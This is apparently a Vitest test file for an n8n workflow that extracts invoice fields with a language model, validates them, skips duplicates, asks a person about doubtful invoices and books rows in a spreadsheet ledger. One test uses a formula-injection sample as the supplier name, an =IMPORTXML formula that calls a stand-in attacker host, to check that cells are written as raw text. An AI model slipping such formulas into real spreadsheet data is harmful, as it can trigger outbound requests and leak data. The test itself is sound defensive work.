import { describe, expect, it, test } from "vitest";
import { type Item, items, openWorkflow } from "../../../tests/support/n8n.ts";

const ledger = openWorkflow("invoice-to-ledger");
const clean = {
  supplier: "Talgrund Druck",
  supplier_tax_number: "DE136695976",
  invoice_number: "2026-118",
  issue_date: "2026-04-13",
  due_date: "2026-05-13",
  net: 180,
  tax: 34.2,
  gross: 214.2,
  currency: "EUR",
  iban: "DE89370400440532013000",
};

async function check(...extracted: Item["json"][]) {
  const mails = items(...extracted.map((_, index) => ({ id: `mail-${index}` })));
  const checked = await ledger.run("Check and key", {
    input: items(...extracted),
    nodes: { "New invoice mail": mails },
  });
  return checked.map(({ json }) => json);
}
const skip = async (rows: Item["json"][], ...invoices: Item["json"][]) =>
  (
    await ledger.run("Skip known invoices", {
      input: items(...rows),
      nodes: { "Check and key": items(...invoices), "Read the ledger": items(...rows) },
    })
  ).map(({ json }) => json);

describe("Check and key", () => {
  it("lets a clean invoice be booked by rule", async () => {
    const [json = {}] = await check({ output: clean });
    expect(json).toMatchObject({ key: "DE136695976|2026-118", problems: "", needs_person: false });
    expect(ledger.branch("Needs a person?", json)).toBe(1);
  });

  it.each([
    ["above the limit", { net: 1000, tax: 200, gross: 1200 }, ""],
    ["a wrong sum", { gross: 446.5 }, "net and tax do not add up to gross"],
    ["another currency", { currency: "AED" }, "currency is AED, not EUR"],
    ["a mistyped IBAN", { iban: "DE89370400440532013001" }, "IBAN is missing or fails its check digits"],
    ["a day that does not exist", { due_date: "2026-02-30" }, "a date is missing or not a date"],
    ["due too early", { due_date: "2026-04-01" }, "due before it was issued"],
  ])("asks a person: %s", async (_, change, problems) => {
    const [json] = await check({ output: { ...clean, ...change } });
    expect(json).toMatchObject({ problems, needs_person: true });
  });

  it("asks about a credit note, which is never booked by rule", async () => {
    const [json] = await check({ output: { ...clean, net: -5000, tax: -950, gross: -5950 } });
    expect(json).toMatchObject({
      needs_person: true,
      problems: "the amount is not above zero, perhaps a credit note",
    });
  });

  it.each([null, "", "n/a", Number.NaN])("asks about the amount %o", async (gross) => {
    const [json] = await check({ output: { ...clean, gross } });
    expect(json).toMatchObject({ needs_person: true, problems: "an amount is missing" });
  });

  it("takes null in every field, as the model is asked to answer", async () => {
    const nothing = Object.fromEntries(Object.keys(clean).map((name) => [name, null]));
    const [json = {}] = await check({ output: nothing });
    expect(json).toMatchObject({ key: "message:mail-0", needs_person: true });
    expect(ledger.value("Ask a person", "message", { input: items(json) })).toContain("Unknown supplier");
  });

  it("sends what the model could not answer to a person, and books the others of the poll", async () => {
    const [broken = {}, whole = {}] = await check(
      { error: "Model output doesn't fit required format" },
      { output: clean },
    );
    expect(broken).toMatchObject({ key: "message:mail-0", needs_person: true });
    expect(broken.problems).toMatch(/^the model could not read it/);
    expect([broken, whole].map((json) => ledger.branch("Needs a person?", json))).toEqual([0, 1]);
  });
});

describe("Extract the fields", () => {
  const { parameters, onError } = ledger.node("Extract the fields");

  it("lets the model say null in every field", () => {
    expect(parameters.schemaType).toBe("manual");
    const { properties, required } = JSON.parse(String(parameters.inputSchema));
    expect(Object.keys(properties)).toEqual(Object.keys(clean));
    for (const { type } of Object.values<{ type: string[] }>(properties)) expect(type).toContain("null");
    expect(required).toBeUndefined();
    expect(String((parameters.options as Item["json"]).systemPromptTemplate)).toContain("Use null");
  });

  it("goes on after an answer that does not fit", () => {
    expect(onError).toBe("continueRegularOutput");
    expect(ledger.after("Extract the fields")).toEqual(["Check and key"]);
  });
});

describe("Skip known invoices", () => {
  const row = {
    key: "DE136695976|2026-118",
    issued: "2026-04-13",
    due: "2026-05-13",
    net: 180,
    tax: 34.2,
    gross: 214.2,
    currency: "EUR",
  };
  const invoice = { ...clean, key: row.key, problems: "", needs_person: false };

  it("drops what stands in the ledger as it is, and a second copy in the same poll", async () => {
    expect(await skip([row], invoice)).toEqual([]);
    expect(await skip([], invoice, invoice)).toEqual([invoice]);
    expect(await skip([{}], invoice)).toEqual([invoice]);
  });

  it("remembers nothing before it is booked: without a row in the ledger it comes again", async () => {
    expect(await skip([], invoice)).toEqual([invoice]);
    expect(await skip([], invoice)).toEqual([invoice]);
    expect(JSON.stringify(ledger.nodes)).not.toContain("$getWorkflowStaticData");
  });

  it("asks about a corrected invoice under its old number", async () => {
    const [corrected] = await skip([row], { ...invoice, net: 200, tax: 38, gross: 238 });
    expect(corrected).toMatchObject({ needs_person: true });
    expect(corrected?.problems).toContain("already in the ledger with 214.2 EUR");
  });

  it("reads the ledger once, and goes on where it is empty", () => {
    expect(ledger.node("Read the ledger")).toMatchObject({ executeOnce: true, alwaysOutputData: true });
  });
});

describe("Book in the ledger", () => {
  const { parameters } = ledger.node("Book in the ledger");
  const { value, schema, matchingColumns } = parameters.columns as {
    value: Item["json"];
    schema: { id: string }[];
    matchingColumns: string[];
  };

  it("describes each of the ten columns that it fills", () => {
    expect(schema.map(({ id }) => id)).toEqual(Object.keys(value));
    expect(schema).toHaveLength(10);
  });

  it("writes a supplier named like a formula as text", () => {
    expect((parameters.options as Item["json"]).cellFormat).toBe("RAW");
    const evil = { ...clean, supplier: '=IMPORTXML("https://evil.example","//a")' };
    expect(
      ledger.value("Book in the ledger", "columns.value.supplier", {
        nodes: { "Needs a person?": items(evil) },
      }),
    ).toBe(evil.supplier);
  });

  it("writes the same row again when it is tried again", () => {
    expect(parameters.operation).toBe("appendOrUpdate");
    expect(matchingColumns).toEqual(["key"]);
  });
});

test("a person is asked about one invoice after the other: a node that sends and waits runs once per execution", () => {
  const asking = ledger.nodes.filter((node) => node.parameters.operation === "sendAndWait");
  expect(asking.map(({ name }) => name)).toEqual(["Ask a person"]);
  expect(ledger.after("One at a time", 1)).toEqual(["Ask a person"]);
  expect(ledger.node("One at a time").parameters.batchSize).toBe(1);
  // Both answers lead back to the loop, or it would end with the first.
  expect([0, 1].map((answer) => ledger.after("Approved?", answer).at(-1))).toEqual([
    "One at a time",
    "One at a time",
  ]);
});

test("no invoice waits for the answer about another: n8n goes on with the node that is drawn highest", () => {
  const height = (name: string) => ledger.node(name).position[1];
  expect(height("Book in the ledger")).toBeLessThan(height("One at a time"));
  expect(height("Put aside")).toBeLessThan(height("One at a time"));
});

test.each([
  [{ data: { approved: true } }, 0],
  [{ data: { approved: false } }, 1],
  [{ supplier: "no answer in three days" }, 1],
])("the answer %o takes output %i", (json, output) => {
  expect(ledger.branch("Approved?", json)).toBe(output);
});

test("the PDF is read, whatever is attached before it", () => {
  const of = (binary: Item["json"]) =>
    ledger.value("Read the PDF", "binaryPropertyName", { input: [{ json: {}, binary }] });
  const [logo, pdf] = [{ mimeType: "image/png" }, { mimeType: "application/pdf" }];
  expect(of({ attachment_0: logo, attachment_1: pdf })).toBe("attachment_1");
  expect(of({})).toBe("attachment_0");
});
